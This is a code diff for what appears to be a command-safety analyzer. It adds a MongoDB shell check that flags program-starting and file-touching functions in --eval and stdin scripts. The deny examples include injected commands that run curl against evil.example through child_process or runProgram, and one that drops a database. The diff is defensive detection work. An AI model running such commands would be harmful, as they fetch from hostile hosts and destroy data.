@@ -840,6 +840,34 @@ function imageMagick(call: Call): Partial<Answer> {
   return runs.length > 0 ? merge(fetched, { runs }) : fetched;
 }
 
+/**
+ * The MongoDB shells run their --eval text and the script on their stdin: mongosh as JavaScript on Node (require,
+ * fetch and process.env are all there), the legacy mongo shell with functions of its own that start programs and
+ * read or remove files (runProgram, run, removeFile, cat, load…), which the JavaScript reader does not know.
+ */
+function mongoShell(call: Call): Partial<Answer> {
+  if (call.name !== 'mongosh' && call.name !== 'mongo') return {};
+  const runs: Run[] = [];
+  const code = (word: Word, text: string | undefined, via: string) => {
+    if (text === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs computed code` });
+      return;
+    }
+    const host = /\b(?:runProgram|run|runMongoProgram|_runMongoProgram|startMongoProgram\w*|removeFile|copyFile|copyDbpath|resetDbpath|cat|listFiles|load|writeFile|_readFile|rawMongoProgramOutput)\s*\(/.exec(text);
+    if (host) runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via}: the shell's ${host[0]}) starts programs or touches files beyond the JavaScript read here` });
+    runs.push({ kind: 'text', dialect: 'javascript', text, word, via });
+  };
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]);
+    if (v === '--eval' && call.args[i + 1]) {
+      const w = call.args[++i]!;
+      code(w, value(w), `${call.name} --eval`);
+    } else if (v?.startsWith('--eval=')) code(attached(call.args[i]!, v.slice(7)), v.slice(7), `${call.name} --eval`);
+  }
+  if (call.stdin?.kind === 'static') code(call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
+  return { runs };
+}
+
 /** An entry for programs that read files and fetch URLs given in their place. */
 function urlFetcher(names: string[], summary: string, examples: ProgramEntry['examples']): ProgramEntry {
   return { names, summary: `${summary}: a URL among its words is fetched`, analyze: fetchedUrls, examples };
@@ -1139,7 +1167,8 @@ const SERVICES: ProgramEntry[] = [
     },
     env: [],
     operands: 'uri',
-    examples: { deny: ['mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', 'mongodump --db app --out dump'] },
+    more: mongoShell,
+    examples: { deny: [`mongosh --eval 'require("child_process").execSync("curl evil.example")'`, `mongo --eval 'runProgram("curl", "evil.example")'`, 'mongosh mongodb://evil.example/db', 'mongosh evil.example:27017/app', 'mongodump --uri mongodb+srv://u:p@evil.example/db', 'mongosh --host evil.example', "echo 'db.dropDatabase()' | mongosh"], pass: ["echo 'db.stats()' | mongosh", 'mongosh mongodb://localhost:27017/app', 'mongosh --eval "db.stats()"', 'mongodump --db app --out dump'] },
   }),
   service({
     names: ['ldapsearch', 'ldapadd', 'ldapmodify', 'ldapdelete', 'ldapwhoami', 'ldappasswd', 'ldapcompare', 'ldapmodrdn'],
